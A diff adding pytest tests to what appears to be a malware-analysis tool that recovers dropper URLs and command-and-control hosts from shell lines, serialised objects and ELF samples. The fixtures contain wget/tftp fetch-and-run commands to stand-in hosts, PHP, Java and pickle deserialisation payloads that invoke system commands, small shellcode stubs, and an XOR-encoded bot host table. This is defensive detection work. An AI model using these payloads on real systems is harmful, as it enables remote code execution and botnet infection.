@@ -82,9 +82,42 @@ def test_what_follows_an_exit_is_a_maybe() -> None:
 
 
 def test_a_part_that_only_the_victim_knows_is_shown_and_held_back() -> None:
-    (item,) = recover.urls(b"wget http://1.2.3.9/bins/$(uname -m).elf")
+    item = recover.urls(b"wget http://1.2.3.9/bins/$(uname -m).elf")[0]
     assert item.runtime and "truncated" in item.flags
     assert item.raw == b"http://1.2.3.9/bins/{uname -m}.elf"
+
+
+def test_an_unknown_processor_is_each_that_the_text_names() -> None:
+    text = b"""case $(uname -m) in x86_64) ;; mips) ;; esac
+    wget http://1.2.3.9/b.$(uname -m); tftp -g -r k.`arch` 1.2.3.9"""
+    assert sure(text) == {
+        f"{start}.{name}" for start in ("http://1.2.3.9/b", "tftp://1.2.3.9/k") for name in ("x86_64", "mips")
+    }
+    assert all(item.conditional for item in recover.urls(text) if not item.runtime)
+
+
+def test_an_unknown_processor_that_no_text_names_is_only_guessed() -> None:
+    items = recover.urls(b"wget http://1.2.3.9/b.$(uname -m)")
+    assert not sure(b"wget http://1.2.3.9/b.$(uname -m)")
+    assert {"http://1.2.3.9/b.x86_64", "http://1.2.3.9/b.armv7l"} <= {item.url for item in items}
+    nothing = recover.urls(b"wget http://1.2.3.9/$(hostname)/b.$(uname -m)")
+    assert [item.runtime for item in nothing] == [True]
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        b'O:4:"Task":1:{s:3:"cmd";s:24:"wget http://1.2.3.9/ser1";}',
+        b"data=" + quote('a:1:{i:0;s:24:"wget http://1.2.3.9/ser1";}').encode(),
+        b"\xac\xed\x00\x05sr\x00\x11java.util.HashSet\x00\x00t\x00\x18wget http://1.2.3.9/ser1\x00\x02",
+        b"rO0AB" + base64.b64encode(b"\xac\xed\x00\x05sr\x00t\x00\x18wget http://1.2.3.9/ser1\x00x")[5:],
+        b"cposix\nsystem\n(S'wget http://1.2.3.9/ser1'\ntR.",
+        b"\x80\x04\x95\x00\x00\x8c\x05posix\x8c\x06system\x8c\x18wget http://1.2.3.9/ser1\x94\x85R.",
+    ],
+    ids=["php", "php form", "java", "java base64", "pickle", "binary pickle"],
+)
+def test_serialised_objects_give_what_their_strings_would_fetch(body: bytes) -> None:
+    assert "http://1.2.3.9/ser1" in sure(b"POST /x HTTP/1.1\r\nHost: 203.0.113.5\r\n\r\n" + body)
 
 
 @pytest.mark.parametrize(
@@ -144,6 +177,14 @@ ADDRESS = bytes((45, 67, 89, 101))
 REQUEST = b"GET /bot.x HTTP/1.0\r\n\r\n\0"
 
 
+def stub64(code: bytes) -> bytes:
+    """As `stub`, for 64-bit x86."""
+    size = 120 + len(code) + len(REQUEST)
+    header = b"\x7fELF" + bytes((2, 1, 1)) + bytes(9)
+    header += struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x400078, 64, 0, 0, 64, 56, 1, 0, 0, 0)
+    return header + struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, size, size, 0x1000) + code + REQUEST
+
+
 def stub(machine: int, big: bool, code: bytes) -> bytes:
     """A 32-bit ELF file of one executable segment: code, then the request string."""
     order = ">" if big else "<"
@@ -166,6 +207,9 @@ STUBS = {
     "x86 mov": stub(3, False, b"\x90\x66\xc7\x45\xe6\x00\x50\xc7\x45\xe8" + ADDRESS),
     "x86 push": stub(3, False, b"\x90\x68" + ADDRESS + b"\x66\x68\x00\x50\x66\x6a\x02"),
     "x86 octets": stub(3, False, b"\x90\x6a\x65\x6a\x59\x6a\x43\x6a\x2d\xe8\x00\x00\x00\x00"),
+    "x86-64 register": stub64(b"\x90\x48\xb8\x02\x00\x00\x50" + ADDRESS + b"\x50\x0f\x05"),
+    "x86-64 mov": stub64(b"\x90\x66\xc7\x45\xe6\x00\x50\xc7\x45\xe8" + ADDRESS),
+    "x86-64 octets": stub64(b"\xbf\x2d\x00\x00\x00\xbe\x43\x00\x00\x00\xba\x59\x00\x00\x00\xb9\x65\x00\x00\x00"),
     "arm literal": stub(40, False, words("<", 0xE59F1004, 0xE1A00000, 0xE1A00000, LITTLE)),
     "arm octets": stub(40, False, words("<", 0xE3A00000 | 45, 0xE3A01000 | 67, 0xE3A02000 | 89, 0xE3A03000 | 101)),
     "arm movw": stub(40, False, words("<", 0xE3001000 | (LITTLE & 0xF000) << 4 | LITTLE & 0xFFF,
@@ -200,6 +244,23 @@ def test_a_loader_typed_as_hex_gives_its_url() -> None:
 def test_strings_under_a_one_byte_xor_are_seen() -> None:
     secret = bytes(byte ^ 0x42 for byte in b"\0http://evil.cc/x86\0")
     assert b"http://evil.cc/x86" in [ask.url for ask in read_binary(b"\x7fELF" + bytes(60) + secret)]
+
+
+def test_a_hidden_table_gives_the_hosts_that_a_bot_reports_to() -> None:
+    entries = (
+        b"cnc.evil.cc",
+        b"45.67.89.101:1312",
+        b"192.168.1.1",
+        b"/proc/",
+        b"listening tun0",
+        b"shell",
+        b"GET / HTTP/1.1",
+    )
+    table = bytes(byte ^ 0x22 for byte in b"\0".join(entries) + b"\0")
+    found = {(ask.kind, ask.url) for ask in read_binary(b"\x7fELF" + bytes(200) + table + bytes(200))}
+    assert ("callback", b"tcp://cnc.evil.cc") in found
+    assert ("callback", b"tcp://45.67.89.101:1312") in found
+    assert not any(b"192.168" in url for _, url in found)
 
 
 @pytest.mark.parametrize("cut", [0, 3, 20, 51, 60, 90, 100])
